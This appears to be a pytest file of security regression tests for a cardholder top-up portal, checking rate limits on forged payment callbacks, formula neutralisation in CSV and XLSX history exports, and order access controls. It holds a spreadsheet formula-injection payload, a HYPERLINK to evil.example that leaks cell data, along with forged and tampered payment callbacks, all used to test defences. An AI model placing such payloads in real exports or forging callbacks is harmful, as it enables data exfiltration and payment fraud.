"""Attacks on the cardholder portal and its payment callback (HTTP level, real SQLite): the
findings of the issue-11 security review (docs/security.md §7)."""

from __future__ import annotations

import asyncio
import csv
import io
import sqlite3
from pathlib import Path

from openpyxl import load_workbook
from starlette.testclient import TestClient

from gateway.bootstrap import web_app
from gateway.config import load_settings
from gateway.payments.sandbox import SandboxBank
from storage.sql import SqlRegistry
from tests.web.site import Person, seed
from tests.web.test_portal_http import _csrf, _token, change_password, login, paying_site

__all__ = ["paying_site"]  # the fixture, imported for its name

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此领取补贴")'


async def _count(db: Path, action: str) -> int:
    registry = await SqlRegistry.open(db)
    try:
        async with registry.read() as tx:
            rows = await tx.rows(
                "SELECT count(*) AS n FROM audit_log WHERE action = :a", {"a": action}
            )
    finally:
        await registry.close()
    return int(rows[0]["n"])


def test_forged_callback_flood_is_not_written_per_request(
    paying_site: tuple[TestClient, list[Person], SandboxBank], tmp_path: Path
) -> None:
    """Anyone can POST to /pay/notify: each forged callback was one audit row and one write
    transaction on the registry the gateway's taps share. Past a per-address limit they are
    refused (429) without a write, while a genuine callback from that address still applies."""
    client, (alice, *_), bank = paying_site
    db = tmp_path / "web.sqlite3"
    for _ in range(60):
        client.post("/pay/notify/sandbox", content=b"out_trade_no=OC1&sign=00")
    forged = asyncio.run(_count(db, "topup.forged"))
    assert forged <= 20, forged
    assert client.post("/pay/notify/sandbox", content=b"sign=00").status_code == 429
    # a real payment's callback from the same address is still credited
    login(client, alice)
    change_password(client, alice)
    page = client.get("/topup")
    resp = client.post(
        "/topup",
        data={"csrf": _csrf(page.text), "form_token": _token(page.text), "amount": "30"},
        follow_redirects=False,
    )
    number = resp.headers["location"].rsplit("/", 1)[1]
    bank.pay(number)
    assert client.post("/pay/notify/sandbox", content=bank.notification(number)).status_code == 200
    assert "¥202.00" in client.get("/cards").text  # 172.00 + 30.00


def test_history_exports_never_carry_a_formula(tmp_path: Path) -> None:
    """A merchant's name (typed by staff, shown as the place) like ``=HYPERLINK(...)`` was a live
    formula in the holder's history.xlsx and a formula-led cell in history.csv."""
    db = tmp_path / "web.sqlite3"
    people = asyncio.run(seed(db, students=1))
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE merchants SET name = ? WHERE id = 'canteen1'", (EVIL,))
    settings = load_settings(
        None, db=str(db), web={"cookie_secure": False, "confirm_timeout_ms": 0}
    )
    with TestClient(web_app(settings), base_url="http://localhost") as client:
        login(client, people[0])
        change_password(client, people[0])
        text = client.get("/history.csv").content.decode("utf-8-sig")
        places = [row[3] for row in csv.reader(io.StringIO(text))][1:]
        assert f"'{EVIL}" in places
        assert not any(p.startswith(("=", "+", "-", "@")) for p in places)
        wb = load_workbook(io.BytesIO(client.get("/history.xlsx").content))
        ws = wb.active
        assert ws is not None
        cells = [row[3] for row in ws.iter_rows(min_row=2)]
        assert any(c.value == EVIL for c in cells)
        assert all(c.data_type != "f" for c in cells)


def test_another_holders_order_and_a_short_payment(
    paying_site: tuple[TestClient, list[Person], SandboxBank],
) -> None:
    """Bob opening Alice's order by its number learns nothing; a provider that charged less
    than the order (a tampered amount, correctly signed) credits nothing."""
    client, (alice, bob, *_), bank = paying_site
    login(client, alice)
    change_password(client, alice)
    page = client.get("/topup")
    resp = client.post(
        "/topup",
        data={"csrf": _csrf(page.text), "form_token": _token(page.text), "amount": "100"},
        follow_redirects=False,
    )
    number = resp.headers["location"].rsplit("/", 1)[1]
    bank.pay(number, amount=1)  # 0.01 yuan paid for a 100-yuan order
    short = client.post("/pay/notify/sandbox", content=bank.notification(number))
    assert short.status_code != 200
    assert "¥172.00" in client.get("/cards").text  # unchanged
    client.post("/logout", data={"csrf": _csrf(client.get("/cards").text)})
    client.cookies.clear()
    login(client, bob)
    change_password(client, bob)
    other = client.get(f"/topup/{number}")
    assert other.status_code == 404 and "¥100.00" not in other.text
